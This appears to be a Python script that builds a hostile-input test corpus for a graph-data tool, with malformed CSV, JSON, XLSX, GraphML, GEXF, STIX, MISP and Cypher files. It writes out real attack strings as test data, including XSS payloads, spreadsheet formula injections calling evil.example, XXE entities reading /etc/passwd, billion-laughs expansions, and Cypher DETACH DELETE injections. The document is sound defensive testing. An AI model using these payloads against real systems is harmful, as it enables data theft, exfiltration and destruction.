"""Write the committed hostile-input corpus (tests/hostile/corpus/) from one small base dataset.

Run ``python tests/hostile/make_corpus.py`` after changing it; the files it writes are
committed byte for byte (wrong encodings, NUL bytes and broken zips included) so that a
reviewer can run ``graphkit validate tests/hostile/corpus/NAME`` on any of them. Inputs
too big to commit (a 50 MB field, a million rows or columns, XML behind 2 MiB of
comment) are built at test time by :mod:`generated`. What each input must do is written
in ``manifest.toml``.
"""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"

BASE = {
    "actors.csv": (
        "id,name,kind,region\n"
        "USA,United States,state,Americas\n"
        "GBR,United Kingdom,state,Europe\n"
        "NATO,North Atlantic Treaty Organization,alliance,\n"
    ),
    "capabilities.csv": "id,name\ncap:ir,Incident response\n",
    "threats.csv": "id,name,first_seen\nthreat:apt28,APT28,2004-01-01\n",
    "relationships.csv": (
        "source,type,target,since,weight,level\n"
        "USA,MEMBER_OF,NATO,1949,,\n"
        "GBR,MEMBER_OF,NATO,1949,,\n"
        "USA,COOPERATES_WITH,GBR,,0.9,\n"
        "USA,HAS_CAPABILITY,cap:ir,,,0.9\n"
        "threat:apt28,TARGETS,USA,,,\n"
        "threat:apt28,REQUIRES,cap:ir,,,\n"
    ),
}

XSS = [
    "<script>alert('xss-name')</script>",
    "<img src=x onerror=alert('xss-img')>",
    "\"><svg onload=alert('xss-svg')>",
    "javascript:alert('xss-url')",
    "</script><script>alert('xss-break')</script>",
    "{{constructor.constructor('alert(1)')()}}",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=WEBSERVICE("http://evil.example")',
]
# Every line break a dataset may carry (VT, FF and the C0 separators are refused at load)
# before a formula: a reader that splits the cell there must not see the formula either.
OUTPUT_BREAKS = ["\r", "\n", "\r\n", "\x85", "\u2028", "\u2029"]
LINE_BREAK_NAMES = [f"name{brk}{f}".replace('"', '""') for brk in OUTPUT_BREAKS for f in FORMULAS[:4]]
# Right-to-left overrides and embeddings, isolates, marks, and C1/CR controls for terminals.
BIDI_NAMES = [
    "evil\u202etxt.exe",  # RIGHT-TO-LEFT OVERRIDE
    "\u202bembedded right to left",  # RIGHT-TO-LEFT EMBEDDING, never closed
    "\u2067isolate never closed",  # RIGHT-TO-LEFT ISOLATE
    "mark\u200fhere",  # RIGHT-TO-LEFT MARK
    "carriage\rreturn rewrites the line",
    "next\x85line and \x9bCSI",  # NEL and the C1 control sequence introducer
]
GRAPHML_HEAD = (
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns">\n'
    '<key id="label" for="node" attr.name="label" attr.type="string"/>\n'
    '<key id="name" for="node" attr.name="name" attr.type="string"/>\n'
    '<key id="kind" for="node" attr.name="kind" attr.type="string"/>\n'
    '<key id="type" for="edge" attr.name="type" attr.type="string"/>\n'
    '<graph edgedefault="directed">\n'
)
GEXF_HEAD = (
    '<gexf xmlns="http://www.gexf.net/1.2draft" version="1.2">\n'
    '<graph mode="static" defaultedgetype="directed">\n'
    '<attributes class="node"><attribute id="0" title="node_label" type="string"/>'
    '<attribute id="1" title="kind" type="string"/><attribute id="2" title="name" type="string"/></attributes>\n'
    '<attributes class="edge"><attribute id="3" title="rel_type" type="string"/></attributes>\n'
)
LAUGHS = (
    '<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + "]>\n"
)
SECRET = "/etc/passwd"


def graphml(
    nodes: list[tuple[str, str, str, str]], edges: list[tuple[str, str, str]] = (), *, prolog: str = ""
) -> str:
    out = ['<?xml version="1.0" encoding="UTF-8"?>\n', prolog, GRAPHML_HEAD]
    for n, label, name, kind in nodes:
        out.append(
            f'<node id="{n}"><data key="label">{label}</data><data key="name">{name}</data>'
            + (f'<data key="kind">{kind}</data>' if kind else "")
            + "</node>\n"
        )
    for i, (u, t, v) in enumerate(edges):
        out.append(f'<edge id="e{i}" source="{u}" target="{v}"><data key="type">{t}</data></edge>\n')
    out.append("</graph>\n</graphml>\n")
    return "".join(out)


def gexf(nodes: list[tuple[str, str, str, str]], *, prolog: str = "") -> str:
    out = ['<?xml version="1.0" encoding="UTF-8"?>\n', prolog, GEXF_HEAD, "<nodes>\n"]
    for n, label, name, kind in nodes:
        out.append(
            f'<node id="{n}" label="{n}"><attvalues><attvalue for="0" value="{label}"/>'
            f'<attvalue for="1" value="{kind}"/><attvalue for="2" value="{name}"/></attvalues></node>\n'
        )
    out.append("</nodes>\n<edges/>\n</graph>\n</gexf>\n")
    return "".join(out)


TWO = [("USA", "Actor", "United States", "state"), ("NATO", "Actor", "NATO", "alliance")]


def node_link(nodes: list[dict], links: list[dict] = ()) -> str:
    return json.dumps({"directed": True, "multigraph": True, "nodes": nodes, "links": list(links)}, indent=1)


def N(i: str, **kw) -> dict:  # noqa: N802 - a node in node-link JSON
    return {"id": i, "label": "Actor", "name": kw.pop("name", i), "kind": kw.pop("kind", "state"), **kw}


def folder(**changes: str | bytes | None) -> dict[str, bytes]:
    """The base dataset with some files replaced (text, raw bytes) or removed (None)."""
    files = {k: v.encode() for k, v in BASE.items()}
    for key, value in changes.items():
        name = key + ".csv"
        if value is None:
            files.pop(name)
        else:
            files[name] = value if isinstance(value, bytes) else value.encode()
    return files


def add(file: str, text: str) -> str:
    return BASE[file + ".csv"] + text


def xlsx(sheets: dict[str, list[list]], *, formula_cells: bool = False) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def base_rows() -> dict[str, list[list]]:
    import csv

    return {k[:-4]: [r for r in csv.reader(io.StringIO(v))] for k, v in BASE.items()}


def xlsx_with_sheet_xml(sheet: str, replace: tuple[str, str], *, cell: str | None = None) -> bytes:
    """The base workbook with one sheet's XML text edited (to plant a DTD in it)."""
    src = zipfile.ZipFile(io.BytesIO(xlsx(base_rows())))
    names = {n for n in src.namelist()}
    index = list(base_rows()).index(sheet) + 1
    target = f"xl/worksheets/sheet{index}.xml"
    assert target in names, names
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for n in src.namelist():
            data = src.read(n)
            if n == target:
                text = data.decode()
                assert replace[0] in text, text[:300]
                text = text.replace(replace[0], replace[1], 1)
                if cell is not None:  # the name of the first actor becomes an inline string
                    i = text.index('<c r="B2"')
                    j = text.index("</c>", i) + 4
                    text = text[:i] + f'<c r="B2" t="inlineStr"><is><t>{cell}</t></is></c>' + text[j:]
                data = text.encode()
            out.writestr(n, data)
    return buf.getvalue()


def entries() -> dict[str, dict[str, bytes] | bytes]:
    """name -> a folder's files, or one file's bytes (the name carries the extension)."""
    e: dict[str, dict[str, bytes] | bytes] = {}
    # ---- output side (issue 16): names built to break the files graphkit writes ---------
    e["out-line-break-names"] = folder(
        actors=add("actors", "".join(f'N{i},"{name}",ngo,\n' for i, name in enumerate(LINE_BREAK_NAMES)))
    )
    e["out-bidi-control-names"] = folder(
        actors=add("actors", "".join(f'N{i},"{name}",ngo,\n' for i, name in enumerate(BIDI_NAMES)))
    )
    # ---- CSV dataset folders ------------------------------------------------------
    e["csv-latin1"] = folder(
        actors=(BASE["actors.csv"] + "DEU,Deutschland Bundesländer,state,Europe\n").encode("latin-1")
    )
    e["csv-utf16"] = folder(actors=BASE["actors.csv"].encode("utf-16"))
    e["csv-nul-byte"] = folder(
        actors=BASE["actors.csv"].replace("United Kingdom", "United\x00Kingdom").encode()
    )
    e["csv-truncated-quote"] = folder(relationships=add("relationships", 'USA,COOPERATES_WITH,GBR,,"0.5'))
    e["csv-missing-file"] = folder(threats=None)
    e["csv-empty-file"] = folder(capabilities=b"")
    e["csv-bom-crlf"] = folder(actors=("\ufeff" + BASE["actors.csv"]).replace("\n", "\r\n").encode())
    e["csv-duplicate-id"] = folder(capabilities=add("capabilities", "USA,United States again\n"))
    e["csv-empty-id"] = folder(actors=add("actors", ",Nobody,state,\n"))
    e["csv-space-id"] = folder(actors=add("actors", '" DEU",Germany,state,Europe\n'))
    e["csv-id-case"] = folder(actors=add("actors", "usa,United States (lower case),state,Americas\n"))
    e["csv-id-unicode-nfd"] = folder(
        actors=add("actors", "Caf\u00e9,Cafe NFC,ngo,\nCafe\u0301,Cafe NFD,ngo,\n")
    )
    e["csv-id-fullwidth"] = folder(
        actors=add("actors", "\uff35\uff33\uff21,United States (full width),state,\n")
    )
    e["csv-dangling-target"] = folder(relationships=add("relationships", "USA,MEMBER_OF,EU,2000,,\n"))
    e["csv-dangling-case"] = folder(relationships=add("relationships", "usa,COOPERATES_WITH,GBR,,,\n"))
    e["csv-self-loop-member"] = folder(relationships=add("relationships", "NATO,MEMBER_OF,NATO,,,\n"))
    e["csv-self-loop-cooperates"] = folder(relationships=add("relationships", "GBR,COOPERATES_WITH,GBR,,,\n"))
    e["csv-wrong-endpoint"] = folder(relationships=add("relationships", "USA,TARGETS,GBR,,,\n"))
    e["csv-member-cycle"] = folder(relationships=add("relationships", "NATO,MEMBER_OF,USA,,,\n"))
    e["csv-float-inf"] = folder(relationships=add("relationships", "GBR,COOPERATES_WITH,USA,,1e999,\n"))
    e["csv-float-nan"] = folder(relationships=add("relationships", "GBR,COOPERATES_WITH,USA,,NaN,\n"))
    e["csv-int-huge"] = folder(
        relationships=BASE["relationships.csv"].replace("1949", "99999999999999999999999", 1)
    )
    e["csv-date-feb30"] = folder(threats=BASE["threats.csv"].replace("2004-01-01", "2024-02-30"))
    e["csv-level-out-of-range"] = folder(relationships=BASE["relationships.csv"].replace(",,,0.9", ",,,1.5"))
    e["csv-unknown-type"] = folder(relationships=add("relationships", "USA,FRIENDS_WITH,GBR,,,\n"))
    e["csv-unknown-kind"] = folder(actors=add("actors", "CHN,China,superpower,Asia\n"))
    e["csv-cypher-header"] = folder(
        actors=BASE["actors.csv"].replace("region\n", "region,`x`}) DETACH DELETE n //\n", 1)
    )
    e["csv-cypher-header-type"] = folder(
        actors=BASE["actors.csv"].replace("region\n", "region,x:string}) MATCH (m) DETACH DELETE m //\n", 1)
    )
    e["csv-reserved-header"] = folder(
        actors=BASE["actors.csv"].replace("region\n", "region,label\n", 1)
        + "DEU,Germany,state,Europe,Threat\n"
    )
    e["csv-int-5000-digits"] = folder(relationships=BASE["relationships.csv"].replace("1949", "9" * 5000, 1))
    e["csv-int-column-1e999"] = folder(relationships=BASE["relationships.csv"].replace("1949", "1e999", 1))
    e["csv-duplicate-column"] = folder(actors=BASE["actors.csv"].replace("region\n", "region,name\n", 1))
    e["csv-missing-column"] = folder(actors="id,name\nUSA,United States\n")
    e["csv-ragged-row"] = folder(actors=add("actors", "DEU,Germany,state,Europe,extra,cells\n"))
    e["csv-control-char"] = folder(actors=add("actors", "DEU,Germ\x01any,state,Europe\n"))
    e["csv-html-names"] = folder(
        actors=add(
            "actors",
            "".join(
                f'X{i},"{s.replace(chr(34), chr(34) * 2)}",ngo,"{s.replace(chr(34), chr(34) * 2)}"\n'
                for i, s in enumerate(XSS)
            ),
        ),
    )
    e["csv-formula-names"] = folder(
        actors=add(
            "actors",
            "".join(
                f'F{i},"{s.replace(chr(34), chr(34) * 2)}",company,"{s.replace(chr(34), chr(34) * 2)}"\n'
                for i, s in enumerate(FORMULAS)
            ),
        ),
    )
    # ---- .xlsx workbooks ------------------------------------------------------------
    good = xlsx(base_rows())
    e["xlsx-truncated.xlsx"] = good[: len(good) // 2]
    e["xlsx-not-a-zip.xlsx"] = b"id,name,kind\nUSA,United States,state\n"
    rows = base_rows()
    del rows["threats"]
    e["xlsx-missing-sheet.xlsx"] = xlsx(rows)
    rows = base_rows()
    rows["actors"] += [[f"F{i}", f, "company", f] for i, f in enumerate(FORMULAS)]
    e["xlsx-formula-cells.xlsx"] = xlsx(rows)
    e["xlsx-huge-dimension.xlsx"] = xlsx_with_sheet_xml(
        "actors", ('<dimension ref="A1:D4"', '<dimension ref="A1:XFD1048576"')
    )
    e["xlsx-stale-dimension.xlsx"] = xlsx_with_sheet_xml(
        "actors", ('<dimension ref="A1:D4"', '<dimension ref="A1:B2"')
    )
    rows = base_rows()
    rows["relationships"].append(["GBR", "COOPERATES_WITH", "USA", None, "#DIV/0!", None])
    e["xlsx-error-value.xlsx"] = xlsx(rows)
    e["xlsx-dtd-in-sheet.xlsx"] = xlsx_with_sheet_xml(
        "actors", ("<worksheet", f'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file://{SECRET}">]><worksheet')
    )
    e["xlsx-xxe-cell.xlsx"] = xlsx_with_sheet_xml(
        "actors",
        ("<worksheet", f'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file://{SECRET}">]><worksheet'),
        cell="&xxe;",
    )
    e["xlsx-billion-laughs.xlsx"] = xlsx_with_sheet_xml(
        "actors", ("<worksheet", LAUGHS.replace("lolz", "worksheet") + "<worksheet"), cell="&lol9;"
    )
    e["xlsx-broken-sheet-xml.xlsx"] = xlsx_with_sheet_xml(
        "actors", ("</sheetData>", "<row><c><v>1</sheetData>")
    )
    e["xlsx-far-cell.xlsx"] = xlsx_with_sheet_xml(
        "actors",
        (
            "</sheetData>",
            '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row></sheetData>',
        ),
    )
    # ---- node-link JSON --------------------------------------------------------------------
    ok = node_link(
        [N("USA"), N("NATO", kind="alliance")], [{"source": "USA", "target": "NATO", "type": "MEMBER_OF"}]
    )
    e["json-truncated.json"] = ok[: len(ok) // 2].encode()
    e["json-utf16.json"] = ok.encode("utf-16")
    e["json-deep-nesting.json"] = ('{"nodes": [' + "[" * 100_000 + "]" * 100_000 + "]}").encode()
    e["json-nan-infinity.json"] = (
        node_link([N("USA", weight=1.0), N("GBR", weight=2.0)])
        .replace('"weight": 1.0', '"weight": NaN')
        .replace('"weight": 2.0', '"weight": Infinity')
        .encode()
    )
    e["json-1e999.json"] = (
        node_link([N("USA", weight=1.0)]).replace('"weight": 1.0', '"weight": 1e999').encode()
    )
    e["json-huge-int.json"] = (
        node_link([N("USA", since=1)]).replace('"since": 1', '"since": ' + "9" * 40).encode()
    )
    e["json-duplicate-id.json"] = node_link([N("USA"), N("USA", name="again")]).encode()
    e["json-id-case.json"] = node_link([N("NATO", kind="alliance"), N("Nato", kind="alliance")]).encode()
    e["json-dangling.json"] = node_link(
        [N("USA")], [{"source": "USA", "target": "EU", "type": "MEMBER_OF"}]
    ).encode()
    e["json-self-loop.json"] = node_link(
        [N("USA")], [{"source": "USA", "target": "USA", "type": "COOPERATES_WITH"}]
    ).encode()
    e["json-wrong-shapes.json"] = json.dumps(
        {
            "nodes": [
                {"id": ["USA"], "label": "Actor", "name": "x", "kind": "state"},
                {"id": "GBR", "label": ["Actor"], "name": "x", "kind": "state"},
                {"id": "FRA", "label": "Actor", "name": {"en": "France"}, "kind": "state"},
                "DEU",
                {"id": 7, "label": "Actor", "name": "x", "kind": "state"},
            ],
            "links": [{"source": "GBR", "target": "FRA"}],
        }
    ).encode()
    e["json-not-node-link.json"] = b'[{"id": "USA"}]'
    e["json-lone-surrogate.json"] = (
        b'{"nodes": [{"id": "USA", "label": "Actor", "name": "bad \\ud800 text", "kind": "state"}], "links": []}'
    )
    e["json-cypher-key.json"] = node_link([N("USA", **{"x}) DETACH DELETE (n": 1})]).encode()
    e["json-date-feb30.json"] = json.dumps(
        {
            "graphkit": 1,
            "nodes": [
                {
                    "id": "USA",
                    "label": "Actor",
                    "properties": {
                        "name": "United States",
                        "kind": "state",
                        "joined": {"date": "2024-02-30"},
                    },
                }
            ],
            "relationships": [],
        }
    ).encode()
    e["json-int-5000-digits.json"] = (
        node_link([N("USA", since=1)]).replace('"since": 1', '"since": ' + "9" * 5000).encode()
    )
    e["json-html-names.json"] = node_link([N(f"X{i}", name=s, note=s) for i, s in enumerate(XSS)]).encode()

    # ---- MISP galaxy clusters and STIX 2.1 bundles ------------------------------------------
    def galaxy(values: list) -> str:
        return json.dumps(
            {
                "name": "Threat Actor",
                "type": "threat-actor",
                "uuid": "7cdff317-a673-4474-84ec-4f1754947823",
                "version": 1,
                "description": "hostile",
                "values": values,
            },
            indent=1,
        )

    def cluster(i: int, value: str, **meta) -> dict:
        return {
            "uuid": f"00000000-0000-4000-8000-{i:012d}",
            "value": value,
            "description": value,
            "meta": meta,
        }

    e["misp-truncated.json"] = galaxy([cluster(1, "Alpha Panda")])[:120].encode()
    e["misp-deep-nesting.json"] = ('{"values": [' + "[" * 100_000 + "]" * 100_000 + "]}").encode()
    e["misp-huge-int.json"] = (
        galaxy([cluster(1, "Alpha Panda", refs=1)]).replace('"refs": 1', '"refs": ' + "9" * 5000).encode()
    )
    e["misp-not-a-galaxy.json"] = node_link([N("USA")]).encode()
    e["misp-wrong-shapes.json"] = galaxy(
        [
            "Alpha",
            7,
            {"uuid": 5, "value": ["x"]},
            {"uuid": "00000000-0000-4000-8000-000000000009", "value": "Beta", "meta": [1, 2]},
            {
                "uuid": "00000000-0000-4000-8000-000000000010",
                "value": "Gamma",
                "meta": {"synonyms": 5, "cfr-suspected-victims": {"a": 1}},
            },
        ]
    ).encode()
    e["misp-control-char.json"] = (
        galaxy([cluster(1, "Alpha\u0001Panda")]).replace("\\u0001", "\\u0001").encode()
    )
    e["misp-html-values.json"] = galaxy(
        [
            cluster(i + 1, s, **{"cfr-suspected-victims": ["United States"]})
            for i, s in enumerate(XSS + FORMULAS)
        ]
    ).encode()

    def bundle(objects: list) -> str:
        return json.dumps(
            {"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": objects},
            indent=1,
        )

    def intrusion(i: int, name: str) -> dict:
        return {
            "type": "intrusion-set",
            "spec_version": "2.1",
            "id": f"intrusion-set--00000000-0000-4000-8000-{i:012d}",
            "created": "2016-04-06T20:03:48.000Z",
            "modified": "2016-04-06T20:03:48.000Z",
            "name": name,
            "description": name,
        }

    e["stix-truncated.json"] = bundle([intrusion(1, "APT1")])[:150].encode()
    e["stix-deep-nesting.json"] = (
        '{"type": "bundle", "objects": [' + "[" * 100_000 + "]" * 100_000 + "]}"
    ).encode()
    e["stix-huge-int.json"] = (
        bundle([intrusion(1, "APT1")])
        .replace('"name": "APT1"', '"name": "APT1", "x_n": ' + "9" * 5000)
        .encode()
    )
    e["stix-not-a-bundle.json"] = node_link([N("USA")]).encode()
    e["stix-wrong-shapes.json"] = bundle(
        [
            "intrusion-set",
            7,
            {"type": 5},
            {"type": "intrusion-set", "id": ["x"], "name": {"a": 1}},
            {
                "type": "relationship",
                "id": "relationship--00000000-0000-4000-8000-000000000001",
                "relationship_type": "targets",
                "source_ref": "intrusion-set--nowhere",
                "target_ref": ["x"],
            },
        ]
    ).encode()
    e["stix-control-char.json"] = bundle([intrusion(1, "APT\u00011")]).encode()
    e["stix-html-names.json"] = bundle([intrusion(i + 1, s) for i, s in enumerate(XSS + FORMULAS)]).encode()
    # ---- Cypher query files (graphkit query FILE DATASET) --------------------------------------
    names = "MATCH (a:Actor) RETURN a.name AS name ORDER BY name\n"
    e["query-truncated.cypher"] = b"MATCH (a:Actor\n"
    e["query-utf16.cypher"] = names.encode("utf-16")
    e["query-nul-byte.cypher"] = b"MATCH (a:Actor) RETURN a.name\x00 AS name\n"
    e["query-delete.cypher"] = b"MATCH (a:Actor) DETACH DELETE a\n"
    e["query-attach.cypher"] = b"ATTACH 'other.db' AS o (dbtype kuzu)\n"
    e["query-two-statements.cypher"] = b"MATCH (a:Actor) RETURN a.name; MATCH (a:Actor) DETACH DELETE a;\n"
    e["query-load-csv.cypher"] = f"LOAD CSV FROM 'file://{SECRET}' AS row RETURN row\n".encode()
    e["query-load-from-file.cypher"] = (
        f"LOAD FROM '{SECRET}' (file_format='csv', header=false, delim=':') RETURN *\n".encode()
    )
    e["query-copy-to.cypher"] = b"COPY (MATCH (a:Actor) RETURN a.name) TO 'copied-out.csv'\n"
    e["query-deep-nesting.cypher"] = ("RETURN " + "(" * 4000 + "1" + ")" * 4000 + "\n").encode()
    e["query-names.cypher"] = names.encode()
    # ---- GraphML and GEXF ----------------------------------------------------------------------
    e["graphml-billion-laughs.graphml"] = graphml(
        [("USA", "Actor", "&lol9;", "state")], prolog=LAUGHS
    ).encode()
    e["graphml-xxe-file.graphml"] = graphml(
        [("USA", "Actor", "&xxe;", "state")],
        prolog=f'<!DOCTYPE g [<!ENTITY xxe SYSTEM "file://{SECRET}">]>\n',
    ).encode()
    e["graphml-xxe-parameter.graphml"] = graphml(
        TWO, prolog=f'<!doctype g [<!ENTITY % p SYSTEM "file://{SECRET}"> %p;]>\n'
    ).encode()
    e["graphml-utf16-doctype.graphml"] = (
        graphml([("USA", "Actor", "&lol9;", "state")], prolog=LAUGHS)
        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
        .encode("utf-16")
    )
    e["graphml-truncated.graphml"] = graphml(TWO).encode()[:300]
    e["graphml-unknown-label.graphml"] = graphml(
        [("USA", "Actor", "United States", "state"), ("X", "Person", "Mallory", "")]
    ).encode()
    e["graphml-dangling-edge.graphml"] = graphml(TWO, [("USA", "MEMBER_OF", "EU")]).encode()
    e["graphml-self-loop.graphml"] = graphml(TWO, [("NATO", "MEMBER_OF", "NATO")]).encode()
    e["graphml-bad-types-attr.graphml"] = (
        graphml(TWO)
        .replace("</graph>", '<data key="graphkit_types">{not json</data></graph>')
        .replace(
            "<graph edgedefault",
            '<key id="graphkit_types" for="graph" attr.name="graphkit_types" attr.type="string"/>\n<graph edgedefault',
        )
        .encode()
    )
    e["graphml-html-names.graphml"] = graphml(
        [
            (
                f"X{i}",
                "Actor",
                s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"),
                "ngo",
            )
            for i, s in enumerate(XSS)
        ]
    ).encode()
    e["gexf-billion-laughs.gexf"] = gexf([("USA", "Actor", "&lol9;", "state")], prolog=LAUGHS).encode()
    e["gexf-xxe-file.gexf"] = gexf(
        [("USA", "Actor", "&xxe;", "state")],
        prolog=f'<!DOCTYPE g [<!ENTITY xxe SYSTEM "file://{SECRET}">]>\n',
    ).encode()
    e["gexf-truncated.gexf"] = gexf(TWO).encode()[:250]
    e["gexf-nul-byte.gexf"] = gexf(TWO).replace("United States", "United\x00States").encode()
    input_round_two(e)
    return e


def input_round_two(e: dict[str, dict[str, bytes] | bytes]) -> None:
    """Issue 16, input side (names start with in-): runaway queries, duplicate rows,
    invisible and look-alike ids, repeated JSON keys, dynamic GEXF."""
    # ---- runaway queries (the embedded engine's memory and time limits) ------------------
    e["in-query-runaway-range.cypher"] = b"UNWIND range(1, 100000000000) AS x RETURN count(x) AS n\n"
    e["in-query-runaway-collect.cypher"] = (
        b"UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN collect(a) AS c\n"
    )
    e["in-query-runaway-rows.cypher"] = (
        b"UNWIND range(1, 100000) AS a UNWIND range(1, 1000) AS b RETURN a, b\n"
    )
    e["in-query-runaway-time.cypher"] = (
        b"UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN a, b ORDER BY a DESC LIMIT 3\n"
    )
    e["in-query-param-default-huge.cypher"] = (
        b"// A default past 64 bits.\n// Parameters:\n//   n (int, default 99999999999999999999): a number\n"
        b"RETURN $n AS n\n"
    )
    # ---- exact duplicate relationships (counted twice in every weighted measure) ---------
    e["in-csv-duplicate-rows"] = folder(
        relationships=add(
            "relationships",
            (
                "USA,COOPERATES_WITH,GBR,,0.9,\n"  # line 8: line 4 again
                "GBR,MEMBER_OF,NATO,1949,,\n"  # line 9: line 3 again
                "USA,COOPERATES_WITH,GBR,,0.90,\n"  # line 10: line 4 again (0.90 is the number 0.9)
                "USA,COOPERATES_WITH,GBR,,0.5,\n"
            ),
        )
    )  # line 11: a parallel tie with another weight: kept
    e["in-csv-duplicate-rows-merge"] = e["in-csv-duplicate-rows"]
    rows = base_rows()
    rows["relationships"].append(["USA", "COOPERATES_WITH", "GBR", None, 0.9, None])
    e["in-xlsx-duplicate-rows.xlsx"] = xlsx(rows)
    e["in-json-duplicate-links.json"] = node_link(
        [N("USA"), N("NATO", kind="alliance")],
        [{"source": "USA", "target": "NATO", "type": "MEMBER_OF", "since": 1949}] * 2,
    ).encode()
    e["in-graphml-parallel-duplicate.graphml"] = graphml(
        TWO, [("USA", "MEMBER_OF", "NATO"), ("USA", "MEMBER_OF", "NATO")]
    ).encode()
    # ---- invisible characters and look-alike ids ------------------------------------------
    e["in-csv-bom-midline"] = folder(actors=BASE["actors.csv"].replace("\nGBR,", "\n\ufeffGBR,", 1))
    e["in-csv-zero-width-id"] = folder(
        actors=add("actors", "US\u200bA,United States (again),state,Americas\n")
    )
    e["in-csv-bidi-id"] = folder(actors=add("actors", "\u202eASU,Reversed,state,\n"))
    e["in-csv-confusable-cyrillic"] = folder(
        actors=add("actors", "U\u0405A,United States (Cyrillic DZE),state,Americas\n")
    )
    e["in-csv-confusable-greek"] = folder(
        actors=add("actors", "\u039d\u0391\u03a4\u039f,NATO in Greek capitals,alliance,\n")
    )
    e["in-csv-dangling-invisible"] = folder(
        relationships=add("relationships", "GBR\u2060,COOPERATES_WITH,USA,,,\n")
    )
    e["in-json-confusable.json"] = node_link(
        [N("NATO", kind="alliance"), N("N\u0410TO", kind="alliance")]
    ).encode()
    # ---- a key given twice in one JSON object (the last one silently won) -----------------
    e["in-json-repeated-key.json"] = (
        b'{"nodes": [\n {"id": "USA", "label": "Actor", "name": "United States",\n'
        b'  "kind": "state",\n  "kind": "alliance"}\n], "links": []}\n'
    )
    e["in-misp-repeated-key.json"] = (
        b'{"name": "Threat Actor", "type": "threat-actor", "uuid": "7cdff317-a673-4474-84ec-4f1754947823",\n'
        b' "values": [{"uuid": "00000000-0000-4000-8000-000000000001", "value": "Alpha Panda",\n'
        b'             "value": "Beta Panda", "meta": {}}]}\n'
    )
    e["in-stix-repeated-key.json"] = (
        b'{"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": [\n'
        b' {"type": "intrusion-set", "spec_version": "2.1", "id": "intrusion-set--00000000-0000-4000-8000-000000000001",\n'
        b'  "name": "APT1",\n  "name": "APT2"}]}\n'
    )
    # ---- GEXF with dynamic (time-varying) attributes --------------------------------------
    e["in-gexf-dynamic.gexf"] = (
        gexf(TWO)
        .replace('<graph mode="static"', '<graph mode="dynamic" timeformat="date"')
        .replace(
            '<attributes class="edge">',
            '<attributes class="node" mode="dynamic"><attribute id="9" title="budget" type="float"/></attributes>\n'
            '<attributes class="edge">',
        )
        .replace(
            '<attvalue for="2" value="United States"/>',
            '<attvalue for="2" value="United States"/><attvalue for="9" value="1.5" start="2000-01-01" end="2010-01-01"/>'
            '<attvalue for="9" value="2.5" start="2010-01-01" end="2020-01-01"/>',
        )
        .encode()
    )


def main() -> None:
    if CORPUS.exists():
        shutil.rmtree(CORPUS)
    CORPUS.mkdir()
    for name, content in entries().items():
        if isinstance(content, dict):
            (CORPUS / name).mkdir()
            for f, data in content.items():
                (CORPUS / name / f).write_bytes(data)
        else:
            (CORPUS / name).write_bytes(content)
    print(f"wrote {len(entries())} inputs to {CORPUS}")


if __name__ == "__main__":
    main()
